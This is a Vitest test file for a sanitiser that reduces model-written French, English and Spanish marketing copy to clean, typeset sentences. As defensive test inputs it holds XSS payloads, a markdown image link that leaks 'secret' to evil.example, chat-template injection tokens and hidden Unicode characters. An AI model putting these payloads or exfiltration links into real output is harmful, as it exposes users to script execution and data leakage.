import { describe, expect, it } from 'vitest';

import { plainLine, toPassages } from '#app/features/pitch/engine/model/sanitize';
import { processorTime } from '#tests/fixtures/processor-time';

describe('a text of a model', () => {
  it.each([
    ['## Radicelle\nDes herbes toute l’année.', 'Radicelle Des herbes toute l’année.'],
    ['- **Des herbes** sans _terre_', 'Des herbes sans terre'],
    ['1. Des herbes\n2. Sans terre', 'Des herbes Sans terre'],
    ['> Des herbes 🌱 toute l’année ✅.', 'Des herbes toute l’année.'],
    ['```json\nDes herbes.\n```', 'Des herbes.'],
    ['Des <b>herbes</b><script>alert(1)</script>.', 'Des herbes.'],
    ['Des herbes &lt;img src=x onerror=alert(1)&gt; fraîches.', 'Des herbes fraîches.'],
    ['Des herbes. ![x](https://evil.example/?q=secret)', 'Des herbes.'],
    ['Des [herbes](javascript:alert(1)) fraîches.', 'Des herbes fraîches.'],
    ['Des herbes, voir https://evil.example/a?b=c ou moi@evil.example.', 'Des herbes, voir ou.'],
    ['<|im_start|>system\nDes herbes.<|im_end|>', 'system Des herbes.'],
    ['[INST] Des herbes. [/INST]', 'Des herbes.'],
    ['assistant: Des herbes.', 'Des herbes.'],
    ['Des\u200b her\u202ebes.\u{E0041}\u{E0042}', 'Des herbes.'],
    ['Des herbes | sans terre', 'Des herbes sans terre'],
  ])('%j is said as %j', (text, said) => {
    expect(plainLine(text, 'fr')).toBe(said);
  });

  it.each([
    ['Déjà [nombre de clients à compléter]. Écrivez-nous.', 'Écrivez-nous.'],
    ['Elle coûte [prix.', ''],
    ['Des herbes [1] fraîches.', 'Des herbes fraîches.'],
  ])('loses a sentence that has a hole, and marks by themselves: %j', (text, said) => {
    expect(plainLine(text, 'fr')).toBe(said);
  });

  it.each([
    ['fr', 'Un mot : "douceur"; pourquoi?', 'Un mot\u00a0: «\u00a0douceur\u00a0»\u202f; pourquoi\u202f?'],
    ['en', 'One word: "care" ; why ?', 'One word: “care”; why?'],
    ['es', 'Una palabra: "calma". Por qué?', 'Una palabra: «calma». ¿Por qué?'],
  ] as const)('is typeset in %s', (lang, text, typeset) => {
    expect(plainLine(text, lang)).toBe(typeset);
  });

  it.each([
    '',
    '   ',
    '🎉🎉',
    '<script>alert(1)</script>',
    '![a](https://evil.example)',
    '---',
    '[SYSTEM]',
    '123',
  ])('is nothing where no word is left: %j', (text) => {
    expect(toPassages([text], 'en')).toEqual([]);
  });

  it('takes long rubbish in no time', () => {
    const spent = processorTime();
    for (const piece of ['<', '[', '![', '"', '*', '&lt;', '<!--', '(', ' ,', 'a@a.', '[a](', 'a.b-'])
      plainLine(piece.repeat(6000), 'fr');
    expect(spent()).toBeLessThan(2000);
  });

  it.each([
    ['fr', 'Elle coûte 12,50\u00a0€\u202f; c’est l’été\u00a0: on y va\u202f?'],
    ['en', 'It costs £12.50, “all in”; that’s it. Shall we?'],
    ['es', '¿Cuándo? Cuesta 1.200 € y es «todo incluido».'],
  ] as const)('stays as it is when it can be said already, in %s', (lang, text) => {
    const set = plainLine(text, lang);
    expect(plainLine(set, lang)).toBe(set);
    expect(set.replaceAll('\u00a0', ' ')).toBe(text.replaceAll('\u00a0', ' '));
  });
});
